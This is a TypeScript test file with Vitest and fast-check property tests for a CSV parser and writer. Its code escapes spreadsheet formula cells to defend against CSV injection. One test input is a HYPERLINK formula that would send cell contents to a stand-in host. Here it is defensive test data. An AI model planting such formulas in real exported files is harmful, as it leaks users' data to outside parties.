import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { csvField, parseCsv, protectFormula, unprotectFormula, writeCsv } from './csv';

describe('csv', () => {
  it('parses quoted fields with commas, quotes and newlines, keeping each record\'s physical line', () => {
    const parsed = parseCsv('id,note\r\n1,"a, ""b"""\n2,"two\nlines"\n3,plain\n');
    expect(parsed.header).toEqual(['id', 'note']);
    expect(parsed.records).toEqual([
      { line: 2, values: ['1', 'a, "b"'] },
      { line: 3, values: ['2', 'two\nlines'] },
      { line: 5, values: ['3', 'plain'] },
    ]);
    expect(parsed.problems).toEqual([]);
  });
  it('ignores a BOM and blank lines, keeps empty cells, and reads a last line without newline', () => {
    const parsed = parseCsv('\uFEFFa,b\n\n1,\n,2');
    expect(parsed.header).toEqual(['a', 'b']);
    expect(parsed.records).toEqual([
      { line: 3, values: ['1', ''] },
      { line: 4, values: ['', '2'] },
    ]);
  });
  it('reports an unclosed quote at the line where the record starts', () => {
    expect(parseCsv('a\n"open\nstill open').problems).toEqual([{ line: 2, message: 'Aanhalingsteken wordt niet gesloten' }]);
  });
  it('writes what it reads back unchanged', () => {
    const rows = [
      ['1', 'a, "b"'],
      ['2', 'two\nlines'],
      ['3', ''],
    ];
    const text = writeCsv(['id', 'note'], rows);
    expect(text).toBe('id,note\n1,"a, ""b"""\n2,"two\nlines"\n3,\n');
    expect(parseCsv(text).records.map((r) => r.values)).toEqual(rows);
  });
});

describe('cells a spreadsheet would run as a formula', () => {
  /** What Excel, LibreOffice and Google Sheets run as a formula: = + - @, tab, CR, NUL in front. */
  const FORMULA_CHARS = ['=', '+', '-', '@', '\t', '\r', '\0'];
  const runsAsFormula = (cell: string) => FORMULA_CHARS.includes(cell[0] ?? '') && !/^[+-]?\d+(?:\.\d+)?$/.test(cell);
  const apostrophes = fc.nat({ max: 3 }).map((n) => "'".repeat(n));
  const formula = fc.tuple(apostrophes, fc.constantFrom(...FORMULA_CHARS), fc.string()).map(([a, c, rest]) => a + c + rest);
  /** Anything else: after any apostrophes, a first character that starts no formula (or nothing). */
  const ordinary = fc.tuple(apostrophes, fc.string().filter((s) => !FORMULA_CHARS.includes(s[0] ?? '') && s[0] !== "'")).map(([a, rest]) => a + rest);
  const plainNumber = fc
    .tuple(fc.constantFrom('', '-', '+'), fc.nat(), fc.option(fc.nat(), { nil: undefined }))
    .map(([sign, whole, decimals]) => `${sign}${whole}${decimals === undefined ? '' : `.${decimals}`}`);
  const anyValue = fc.oneof(fc.string(), formula, ordinary, plainNumber, fc.string({ unit: 'binary' }));

  it('gives back every value: unprotect(protect(v)) = v', () => {
    fc.assert(fc.property(anyValue, (value) => unprotectFormula(protectFormula(value)) === value));
  });

  it('writes no cell that a spreadsheet would run', () => {
    fc.assert(fc.property(anyValue, (value) => !runsAsFormula(protectFormula(value))));
  });

  it('leaves ordinary values and plain numbers as they are, on the way out and back in', () => {
    fc.assert(fc.property(fc.oneof(ordinary, plainNumber), (value) => protectFormula(value) === value && unprotectFormula(value) === value));
  });

  it('puts one apostrophe before a formula, also before one that starts with apostrophes', () => {
    fc.assert(fc.property(formula, (value) => !/^[+-]?\d+(?:\.\d+)?$/.test(value) === (protectFormula(value) === `'${value}`)));
    expect(protectFormula('=HYPERLINK("http://x.example/?d="&A1)')).toBe('\'=HYPERLINK("http://x.example/?d="&A1)');
    expect(protectFormula('+31 6 1234 5678')).toBe("'+31 6 1234 5678");
    expect(protectFormula('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(protectFormula('\tC')).toBe("'\tC");
    expect(protectFormula("'=x")).toBe("''=x");
    expect(unprotectFormula("''=x")).toBe("'=x");
    expect(protectFormula("'s-Hertogenbosch")).toBe("'s-Hertogenbosch");
    expect([protectFormula('-3'), protectFormula('-0.5'), protectFormula('+31')]).toEqual(['-3', '-0.5', '+31']);
  });

  it('round-trips any rows through writeCsv and parseCsv', () => {
    const rows = fc.array(fc.tuple(anyValue, anyValue), { maxLength: 5 });
    fc.assert(
      fc.property(rows, (values) => {
        const parsed = parseCsv(writeCsv(['a', 'b'], values));
        expect(parsed.problems).toEqual([]);
        expect(parsed.records.map((r) => r.values.map(unprotectFormula))).toEqual(values);
      }),
    );
  });

  it('quotes a protected cell where RFC 4180 needs it', () => {
    expect(csvField('=1,2')).toBe('"\'=1,2"');
    expect(csvField('\rX')).toBe('"\'\rX"');
    expect(csvField('gewoon')).toBe('gewoon');
  });
});
